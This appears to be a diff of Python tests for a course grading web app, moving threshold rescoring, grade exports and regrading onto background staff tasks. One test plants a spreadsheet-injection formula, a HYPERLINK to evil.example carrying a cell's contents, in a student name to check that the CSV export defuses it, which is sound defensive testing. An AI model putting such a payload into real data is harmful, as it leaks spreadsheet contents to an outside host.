@@ -13,7 +13,7 @@ from sqlalchemy import func, select
 
 from store.models import (Assignment, GradingRun, LoginToken, NightlyResult, NightlyRun, TestResultRow, User)
 
-from webtest_helpers import csrf_of, measured, multipart, store_graded_run
+from webtest_helpers import csrf_of, export, finish_task, measured, multipart, store_graded_run
 
 
 def post_form(client, page_url: str, action: str, data: dict, **kw):
@@ -56,7 +56,10 @@ def test_flag_rerun_and_cancel(client_for, db, course_setup, tiny_reports):
     assert db.get(GradingRun, fresh_id).status == "cancelled"
 
 
-def test_adopt_thresholds_and_rescore_without_running_kernels(client_for, db, course_setup, tiny_reports):
+def test_adopt_thresholds_and_rescore_without_running_kernels(client_for, db, course_setup, tiny_reports,
+                                                              celery_worker):
+    """The rescore is a staff task a worker on the staff queue does; the page follows it."""
+    celery_worker("staff")
     assignment = course_setup["assignment"]
     run = store_graded_run(db, course_setup["alice"], assignment, measured(tiny_reports["optimized"], 50.0))
     assert run.score_total == 7.25                          # 50 us: relaxed tier under optimized = 40 us
@@ -69,7 +72,9 @@ def test_adopt_thresholds_and_rescore_without_running_kernels(client_for, db, co
     assert unknown.status_code == 400 and "not a timed test" in unknown.get_data(as_text=True)
     good = post_form(ta, page, f"{page}/thresholds", {"version": "t2", "rescore": "y",
                                                       "thresholds": '{"perf_tiny": {"optimized": 55, "relaxed": 80}}'})
-    assert good.status_code == 303
+    status = finish_task(ta, good)
+    assert status["summary"].startswith("Rescored 1 graded run under thresholds t2") and status["done"] == 1
+    assert "Thresholds version t2 is in force" in ta.get(good.headers["Location"]).get_data(as_text=True)
     db.expire_all()
     assignment = db.get(Assignment, assignment.id)
     run = db.get(GradingRun, run.id)
@@ -83,7 +88,8 @@ def test_adopt_thresholds_and_rescore_without_running_kernels(client_for, db, co
 
 
 def test_tightening_a_threshold_by_more_than_10_percent_shows_what_it_does_and_asks_first(
-        client_for, db, course_setup, tiny_reports):
+        client_for, db, course_setup, tiny_reports, celery_worker):
+    celery_worker("staff")
     assignment = course_setup["assignment"]
     run = store_graded_run(db, course_setup["alice"], assignment, measured(tiny_reports["optimized"], 35.0))
     store_graded_run(db, course_setup["bob"], assignment, measured(tiny_reports["optimized"], 20.0))
@@ -101,9 +107,10 @@ def test_tightening_a_threshold_by_more_than_10_percent_shows_what_it_does_and_a
     db.expire_all()
     assert db.get(Assignment, assignment.id).thresholds_version != "t2"       # nothing changed yet
     assert db.get(GradingRun, run.id).score_total == 7.5
-    confirmed = post_form(ta, page, f"{page}/thresholds", {**form, "confirmed": "yes"}, follow_redirects=True)
-    assert confirmed.status_code == 200
-    assert "(-25.0%); 1 graded run change tier" in html.unescape(confirmed.get_data(as_text=True))
+    confirmed = post_form(ta, page, f"{page}/thresholds", {**form, "confirmed": "yes"})
+    finish_task(ta, confirmed)
+    assert "(-25.0%); 1 graded run change tier" in html.unescape(ta.get(confirmed.headers["Location"])
+                                                                   .get_data(as_text=True))
     db.expire_all()
     assert db.get(Assignment, assignment.id).thresholds_version == "t2"
     assert db.get(GradingRun, run.id).score_total == 7.25
@@ -162,11 +169,12 @@ def test_extension_lets_one_student_submit_late(client_for, db, course_setup):
     assert until.replace("T", " ") in bob_page and until.replace("T", " ") not in alice_page
 
 
-def test_grade_exports(client_for, db, course_setup, tiny_reports):
+def test_grade_exports(client_for, db, course_setup, tiny_reports, celery_worker):
+    celery_worker("staff")
     store_graded_run(db, course_setup["alice"], course_setup["assignment"], measured(tiny_reports["optimized"], 30.0))
     store_graded_run(db, course_setup["alice"], course_setup["assignment"], measured(tiny_reports["optimized"], 50.0))
     ta = client_for("tara")
-    rows = list(csv.DictReader(io.StringIO(ta.get("/staff/assignments/tiny/grades.csv").get_data(as_text=True))))
+    rows = list(csv.DictReader(io.StringIO(export(ta, "tiny", "grades_csv").decode())))
     by_email = {r["email"]: r for r in rows}
     assert set(by_email) == {"alice@example.edu", "bob@example.edu"}
     assert float(by_email["alice@example.edu"]["total"]) == 7.5 and by_email["alice@example.edu"]["runs"] == "2"
@@ -176,12 +184,12 @@ def test_grade_exports(client_for, db, course_setup, tiny_reports):
     assert float(alice["perf_tiny points"]) == 5.0 and float(alice["perf_tiny p99_us"]) == 30.0
     assert "conv_tiny points" in alice and "conv_tiny p99_us" not in alice
     assert by_email["bob@example.edu"]["perf_tiny points"] == ""
-    archive = zipfile.ZipFile(io.BytesIO(ta.get("/staff/assignments/tiny/gradescope.zip").data))
+    archive = zipfile.ZipFile(io.BytesIO(export(ta, "tiny", "gradescope_zip")))
     assert archive.namelist() == ["alice@example.edu/results.json"]
     assert json.loads(archive.read("alice@example.edu/results.json"))["score"] == 7.5
 
 
-def test_grades_csv_cells_are_never_formulas(client_for, db, course_setup, tiny_reports):
+def test_grades_csv_cells_are_never_formulas(client_for, db, course_setup, tiny_reports, celery_worker):
     """A name or nickname a spreadsheet would run ('=HYPERLINK(...)', '+cmd', '@SUM') reaches the
     grades CSV as text."""
     alice = db.get(User, course_setup["alice"].id)
@@ -189,7 +197,8 @@ def test_grades_csv_cells_are_never_formulas(client_for, db, course_setup, tiny_
     alice.nickname = "@SUM(1+1)"
     db.commit()
     store_graded_run(db, alice, course_setup["assignment"], measured(tiny_reports["optimized"], 30.0))
-    body = client_for("tara").get("/staff/assignments/tiny/grades.csv").get_data(as_text=True)
+    celery_worker("staff")
+    body = export(client_for("tara"), "tiny", "grades_csv").decode()
     row = next(r for r in csv.DictReader(io.StringIO(body)) if r["email"] == "alice@example.edu")
     assert row["name"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     assert row["nickname"] == "'@SUM(1+1)"
@@ -279,3 +288,21 @@ def test_an_admin_sets_who_sees_the_leaderboard_and_a_ta_cannot(app, client_for,
     assert bad.status_code == 400
     post_form(client_for("ada"), page, f"{page}/visibility", {"visibility": "signed_in"})
     assert app.test_client().get("/leaderboard/tiny").status_code == 302
+
+
+def test_regrade_queues_each_students_latest_submission_again(client_for, db, course_setup, tiny_reports,
+                                                              celery_worker):
+    """A staff task: a worker on the staff queue queues the runs; the web request only starts it."""
+    old = store_graded_run(db, course_setup["alice"], course_setup["assignment"], measured(tiny_reports["optimized"], 50.0))
+    latest = store_graded_run(db, course_setup["alice"], course_setup["assignment"],
+                              measured(tiny_reports["optimized"], 30.0))
+    bob = store_graded_run(db, course_setup["bob"], course_setup["assignment"], measured(tiny_reports["optimized"], 38.0))
+    celery_worker("staff")
+    ta = client_for("tara")
+    started = post_form(ta, "/staff/assignments/tiny", "/staff/assignments/tiny/tasks/regrade", {})
+    status = finish_task(ta, started)
+    assert status["summary"].startswith("Queued 2 submissions") and (status["done"], status["total"]) == (2, 2)
+    db.expire_all()
+    queued = db.scalars(select(GradingRun).where(GradingRun.status == "queued")).all()
+    assert sorted(r.submission_id for r in queued) == sorted([latest.submission_id, bob.submission_id])
+    assert old.submission_id not in {r.submission_id for r in queued}
